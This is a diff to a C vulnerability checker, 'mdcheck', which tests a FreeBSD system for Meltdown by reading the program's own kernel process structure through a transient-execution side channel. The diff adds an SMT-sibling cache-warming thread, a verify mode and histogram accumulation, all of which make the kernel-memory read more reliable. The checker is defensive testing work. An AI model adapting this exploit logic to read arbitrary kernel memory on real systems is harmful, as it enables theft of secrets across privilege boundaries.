@@ -38,6 +38,8 @@
 #endif
 
 #include <err.h>
+#include <errno.h>
+#include <pthread.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
@@ -46,7 +48,9 @@
 
 #include "meltdown.h"
 
+static int helper;
 static int quick;
+static int verify;
 
 typedef enum {
 	MDCHECK_SUCCESS,
@@ -55,6 +59,76 @@ typedef enum {
 	MDCHECK_ERROR,
 } mdcheck_result;
 
+/*
+ * Minimum verification scores for success and partial success
+ */
+#define VERIFY_SUCCESS	0.5
+#define VERIFY_PARTIAL	0.1
+
+/*
+ * Cache-warming helper.  The transient read only succeeds if the target
+ * is already in the cache, so we run a thread on the SMT sibling of the
+ * attacking core which keeps our struct proc hot in the shared L1 and L2
+ * by repeatedly asking the kernel about our process.
+ */
+#ifdef __FreeBSD__
+static pthread_t helper_thr;
+static volatile int helper_done;
+static int helper_cpu;
+
+static void *
+helper_main(void *arg)
+{
+	int mib[] = { CTL_KERN, KERN_PROC, KERN_PROC_PID, 0 };
+	struct kinfo_proc kip;
+	unsigned long ncalls;
+	size_t kiplen;
+
+	(void)arg;
+	if (cpu_bind(helper_cpu) != 0)
+		warn("helper: failed to bind to cpu %d", helper_cpu);
+	mib[3] = getpid();
+	for (ncalls = 0; !helper_done; ++ncalls) {
+		kiplen = sizeof kip;
+		(void)sysctl(mib, 4, &kip, &kiplen, NULL, 0);
+	}
+	VERBOSEF("helper: %lu calls\n", ncalls);
+	return (NULL);
+}
+
+/*
+ * Start the helper on the sibling of the CPU our only worker runs on.
+ * Returns 0 on success and -1 if there is no sibling to run it on.
+ */
+static int
+helper_start(void)
+{
+	int cpus[CPU_MAX];
+	int error;
+
+	cpu_cores(cpus, CPU_MAX);
+	if ((helper_cpu = cpu_sibling(cpus[0])) < 0) {
+		warnx("no SMT sibling, running without helper");
+		return (-1);
+	}
+	VERBOSEF("helper: cpu %d, worker: cpu %d\n", helper_cpu, cpus[0]);
+	if ((error = pthread_create(&helper_thr, NULL, helper_main,
+	    NULL)) != 0) {
+		errno = error;
+		err(1, "pthread_create()");
+	}
+	return (0);
+}
+
+static void
+helper_stop(void)
+{
+
+	helper_done = 1;
+	pthread_join(helper_thr, NULL);
+}
+#endif
+
 /*
  * Attempts to exfiltrate data from the kernel.	 Returns MDCHECK_SUCCESS
  * if completely successful, MDCHECK_PARTIAL if partially successful,
@@ -67,10 +141,12 @@ mdcheck(void)
 {
 	int mib[] = { CTL_KERN, KERN_PROC, KERN_PROC_PID, 0 };
 	struct kinfo_proc kip;
+	struct meltdown_byte *hist;
 	struct proc p;
 	size_t kiplen;
 	unsigned int i, rounds;
 	int pid, pidmask;
+	double score;
 	int ret;
 
 	ret = MDCHECK_FAILED;
@@ -88,17 +164,48 @@ mdcheck(void)
 		warn("sysctl()");
 		return (MDCHECK_ERROR);
 	}
+	if (verbose)
+		meltdown_compare(kip.ki_paddr);
+	if (verify) {
+		/*
+		 * Verify mode: rather than read the pid, just check
+		 * whether we can see the value we expect.
+		 */
+		for (rounds = 8; rounds <= 512; rounds *= 2) {
+			score = meltdown_verify(&kip.ki_paddr->p_pid, &pid,
+			    sizeof pid, rounds);
+			if (score >= VERIFY_SUCCESS) {
+				VERBOSEF("match at %u rounds\n", rounds);
+				return (MDCHECK_SUCCESS);
+			} else if (score >= VERIFY_PARTIAL) {
+				VERBOSEF("weak match at %u rounds\n", rounds);
+				ret = MDCHECK_PARTIAL;
+			} else {
+				VERBOSEF("no match with %u rounds\n", rounds);
+			}
+		}
+		return (ret);
+	}
+	/*
+	 * Each pass builds on the histograms from the previous one, so we
+	 * only need to perform the additional rounds.
+	 */
+	if ((hist = calloc(sizeof p, sizeof *hist)) == NULL) {
+		warn("calloc()");
+		return (MDCHECK_ERROR);
+	}
 	for (ret = MDCHECK_FAILED, rounds = 8; rounds <= 512; rounds *= 2) {
 		memset(&p, 0, sizeof p);
 		if (quick) {
 			/* quick mode: read just the pid */
-			meltdown_attack(&kip.ki_paddr->p_pid, &p.p_pid,
+			meltdown_attack(&kip.ki_paddr->p_pid, &p.p_pid, hist,
 			    sizeof p.p_pid, rounds);
 			if (verbose)
 				hexdump(0, &p.p_pid, sizeof p.p_pid);
 		} else {
 			/* full mode: read our entire struct proc */
-			meltdown_attack(kip.ki_paddr, &p, sizeof p, rounds);
+			meltdown_attack(kip.ki_paddr, &p, hist, sizeof p,
+			    rounds);
 			if (verbose)
 				hexdump(0, &p, sizeof p);
 		}
@@ -113,7 +220,8 @@ mdcheck(void)
 		 */
 		if (p.p_pid == pid) {
 			VERBOSEF("exact match at %u rounds\n", rounds);
-			return (MDCHECK_SUCCESS);
+			ret = MDCHECK_SUCCESS;
+			break;
 		} else if ((p.p_pid & pidmask) == pid) {
 			VERBOSEF("imperfect match at %u rounds\n", rounds);
 			ret = MDCHECK_PARTIAL;
@@ -122,6 +230,7 @@ mdcheck(void)
 			    rounds, __builtin_popcount(p.p_pid ^ pid));
 		}
 	}
+	free(hist);
 	return (ret);
 }
 #else
@@ -140,7 +249,7 @@ static void
 usage(void)
 {
 
-	fprintf(stderr, "usage: mdcheck [-v]\n");
+	fprintf(stderr, "usage: mdcheck [-HqVv] " MELTDOWN_USAGE "\n");
 	exit(1);
 }
 
@@ -149,16 +258,23 @@ main(int argc, char *argv[])
 {
 	int opt, ret;
 
-	while ((opt = getopt(argc, argv, "qv")) != -1)
+	while ((opt = getopt(argc, argv, "HqVv" MELTDOWN_OPTS)) != -1)
 		switch (opt) {
+		case 'H':
+			helper++;
+			break;
 		case 'q':
 			quick++;
 			break;
+		case 'V':
+			verify++;
+			break;
 		case 'v':
 			verbose++;
 			break;
 		default:
-			usage();
+			if (meltdown_option(opt, optarg) != 0)
+				usage();
 		}
 
 	argc -= optind;
@@ -167,6 +283,10 @@ main(int argc, char *argv[])
 	if (argc)
 		usage();
 
+	/* with a helper, use a single worker on the first core */
+	if (helper)
+		meltdown_nthreads = 1;
+
 	/* create the probe array and ensure that it is paged in */
 	meltdown_init();
 
@@ -174,7 +294,20 @@ main(int argc, char *argv[])
 	meltdown_calibrate();
 
 	/* perform our tests */
+#ifdef __FreeBSD__
+	if (helper && helper_start() != 0)
+		helper = 0;
+#endif
 	ret = mdcheck();
+#ifdef __FreeBSD__
+	if (helper)
+		helper_stop();
+#endif
+
+#ifdef MELTDOWN_STATS
+	/* print instrumentation counters */
+	meltdown_stats();
+#endif
 
 	exit(ret);
 }